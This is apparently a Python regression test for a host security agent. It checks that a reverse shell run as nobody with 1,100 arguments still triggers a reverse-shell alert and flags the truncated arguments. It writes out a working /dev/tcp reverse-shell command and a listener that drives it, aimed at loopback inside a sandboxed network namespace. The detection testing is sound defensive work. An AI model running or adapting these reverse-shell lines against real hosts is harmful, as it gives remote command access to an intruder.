"""Issue 11, finding 1: a reverse shell with more arguments than the event reader takes values
must still be seen. As nobody, `bash -i -s a a a ...` (1,100 arguments) runs with its standard
input, output and error on a TCP socket to a listener on loopback, in a network namespace of
its own watched by a real agent; the listener makes the shell open a second connection, then
exit. Before the fix the agent wrote an exec line of 1,100+ values that its own engine refused:
no reverse-shell alert, and the shell's connection lost to the rules."""
import os
import subprocess
import sys
import textwrap

import hw
from hw import Agent, Netns, check, check_eq, get

NARGS = 1100
PORT = 4444
# Accepts connections on loopback: tells the first (the shell) to open a second connection to
# the same port, then to exit; prints "ready" once listening.
LISTENER = textwrap.dedent("""
    import socket, sys
    s = socket.socket(); s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    s.bind(("127.0.0.1", int(sys.argv[1]))); s.listen(8); print("ready", flush=True)
    first = True
    while True:
        c, _ = s.accept(); c.settimeout(10)
        if first:
            c.sendall(b"exec 3<>/dev/tcp/127.0.0.1/%s; echo hw-big-args-done; exit\\n"
                      % sys.argv[1].encode())
            first = False
        try:
            while c.recv(4096): pass
        except OSError: pass
        c.close()
""")


def test_reverse_shell_with_1100_args_as_nobody():
    rec = os.path.join(hw.tempdir("bigargs"), "rec.ndjson")
    with Netns("bigargs") as ns:
        lst = ns.popen([sys.executable, "-c", LISTENER, str(PORT)], stdout=subprocess.PIPE,
                       stderr=subprocess.PIPE, stdin=subprocess.DEVNULL, text=True,
                       start_new_session=True)
        try:
            check_eq(lst.stdout.readline().strip(), "ready", "listener")
            with Agent("--netns", ns.path, "--record", rec) as agent:
                # the outer shell puts the socket on 0-2, then execs the big one
                inner = ("exec 0<>/dev/tcp/127.0.0.1/%d 1>&0 2>&0; exec bash -i -s \"$@\""
                         % PORT)
                r = ns.run(["setpriv", "--reuid=65534", "--regid=65534", "--clear-groups",
                            "bash", "-c", inner, "x"] + ["a"] * NARGS,
                           capture_output=True, text=True, timeout=30, cwd="/")
                check_eq(r.returncode, 0, "the shell: " + r.stderr)
                alert = agent.wait_for(lambda e: get(e, "rule.id") == "reverse-shell",
                                       timeout=10)
                agent.wait_for(lambda e: get(e, "event.action") == "connection_attempted"
                               and get(e, "destination.port") == PORT
                               and len(get(e, "process.args") or []) > 3, timeout=10)
        finally:
            lst.kill()
            lst.wait()
            lst.stdout.close()
            lst.stderr.close()
    check_eq(agent.rc, 0, "agent exit: " + agent.read_stderr())
    events = agent.events()
    execs = [e for e in events if get(e, "event.action") == "exec"
             and get(e, "process.args_count") == NARGS + 3]
    check_eq(len(execs), 1, "the exec of bash -i -s with %d arguments" % NARGS)
    ex = execs[0]
    args = get(ex, "process.args")
    check_eq(args[:4], ["bash", "-i", "-s", "a"], "argv kept from the start")
    check(3 < len(args) < NARGS, "process.args cut: %d elements" % len(args))
    check("process.args" in (get(ex, "hopwatch.truncated") or []), "hopwatch.truncated")
    check_eq(get(ex, "user.id"), "65534", "run as nobody")
    check_eq(get(ex, "hopwatch.stdio"), ["tcp", "tcp", "tcp"], "stdio on the socket")
    check_eq(get(alert, "process.entity_id"), get(ex, "process.entity_id"),
             "the alert names the big shell")
    conns = [e for e in events if get(e, "event.action") == "connection_attempted"
             and get(e, "process.entity_id") == get(ex, "process.entity_id")]
    check(conns, "the shell's own connection is reported")
    check("process.args" in (get(conns[0], "hopwatch.truncated") or []),
          "the network event repeats the cut process, flagged")
    stopped = [e for e in events if get(e, "event.action") == "agent-stopped"]
    check_eq(get(stopped[0], "hopwatch.agent.lost_output"), 0,
             "no line the engine could not read")
    # replay reads every recorded line back, and raises the same alert
    r = hw.hopwatch("replay", "-o", "json", rec)
    check_eq(r.returncode, 0, "replay: " + r.stderr)
    check(" 0 malformed" in r.stderr, "replay read every line: " + r.stderr)
    check_eq([get(hw.parse_event(x), "rule.id") for x in r.stdout.splitlines()],
             ["reverse-shell"], "replayed alerts")
